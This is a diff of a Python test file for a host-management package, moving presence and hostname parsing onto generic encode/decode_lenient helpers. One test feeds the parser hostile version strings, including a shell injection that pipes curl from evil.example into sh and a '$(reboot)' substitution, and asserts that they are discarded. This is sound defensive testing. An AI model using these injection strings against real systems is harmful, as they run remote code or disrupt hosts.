@@ -27,26 +27,23 @@ from ecomp.model.host import (
     Leftovers,
     PresenceFacts,
     ProviderSummary,
+    StoredHostname,
     collect_changed_requests,
     describe_silence,
     describe_silent_fix,
     find_forget_obstacle,
     find_leftovers,
     group_by_instance,
-    hostname_to_json,
     list_hosts,
     list_living,
     list_present,
     list_unproven,
-    parse_hostname,
-    parse_life_leases,
-    parse_presence,
 )
 from ecomp.model.image import hash_image
 from ecomp.model.order import InvalidRequest, Request
 from ecomp.model.record import ACTIVE, GONE, Failure, Record
-from ecomp.model.record import to_json as record_text
 from ecomp.model.status import DISABLED, DISABLED_BY_OPERATOR
+from ecomp.model.stored import decode_lenient, encode
 from ecomp.store.client import Entry
 from tests.kit.forms import render
 from tests.kit.transcript import compare_with_file
@@ -305,15 +302,15 @@ def test_silence_has_a_date_unless_it_began_today() -> None:
 
 
 def test_host_name_may_have_two_life_leases() -> None:
-    value = hostname_to_json('hv1', (7, 2**63 - 1)).encode()
-    assert (parse_hostname(value), parse_life_leases(value)) == ('hv1', (7, 2**63 - 1))
-    assert parse_life_leases(hostname_to_json('hv1').encode()) == ()
-    assert parse_life_leases(b'rubbish') == ()
+    value = encode(StoredHostname('hv1', (7, 2**63 - 1))).encode()
+    assert decode_lenient(StoredHostname, value) == StoredHostname('hv1', (7, 2**63 - 1))
+    assert decode_lenient(StoredHostname, encode(StoredHostname('hv1')).encode()).leases == ()
+    assert decode_lenient(StoredHostname, b'rubbish').leases == ()
 
 
 def test_images_of_a_presence_say_what_is_cached() -> None:
     def parse(images: object) -> PresenceFacts:
-        return parse_presence(json.dumps({'images': images}).encode())
+        return decode_lenient(PresenceFacts, json.dumps({'images': images}).encode())
 
     cached = parse(['0123456789ab', 7])
     assert [cached.has_image(each) for each in ('0123456789ab', 'ffffffffffff')] == [True, False]
@@ -350,13 +347,15 @@ def test_image_listing_shows_hosts_that_may_have_the_image() -> None:
 
 def test_malformed_parts_of_a_presence_are_ignored() -> None:
     facts = {'hostname': 'hv1', 'version': '1.1.0', 'kind': 'kvm', 'queues': True, 'token': 'x'}
-    assert parse_presence(json.dumps(facts).encode()) == PresenceFacts('hv1', '1.1.0', 'kvm', True)
-    assert parse_presence(b'{"hostname": "hv1", "version": "1.0.0"}') == PresenceFacts('hv1', '1.0.0')
+    assert decode_lenient(PresenceFacts, json.dumps(facts).encode()) == PresenceFacts('hv1', '1.1.0', 'kvm', True)
+    assert decode_lenient(PresenceFacts, b'{"hostname": "hv1", "version": "1.0.0"}') == PresenceFacts('hv1', '1.0.0')
     for value in (b'', b'[]', b'{"hostname": 1, "version": [], "kind": "", "queues": "yes"}', b'\xff'):
-        assert parse_presence(value) == PresenceFacts()
-    assert parse_presence(json.dumps({'version': 'v' * 10_000}).encode()) == PresenceFacts(version='v' * 64)
+        assert decode_lenient(PresenceFacts, value) == PresenceFacts()
+    assert decode_lenient(PresenceFacts, json.dumps({'version': 'v' * 10_000}).encode()) == PresenceFacts(
+        version='v' * 64
+    )
     for version in ("9'; curl evil.example|sh; '", '9 9', '$(reboot)', '9\n'):
-        assert parse_presence(json.dumps({**facts, 'version': version}).encode()) == PresenceFacts(
+        assert decode_lenient(PresenceFacts, json.dumps({**facts, 'version': version}).encode()) == PresenceFacts(
             'hv1', None, 'kvm', True
         )
 
@@ -420,7 +419,7 @@ class StoredValue:
 
 
 def make_record_value(compute: str, state: str, created: int) -> StoredValue:
-    return StoredValue(record_text(Record(INSTANCE, compute, state)).encode(), created)
+    return StoredValue(encode(Record(INSTANCE, compute, state)).encode(), created)
 
 
 def find_places(*pairs: tuple[str, StoredValue]) -> EntriesByCompute[StoredValue]:
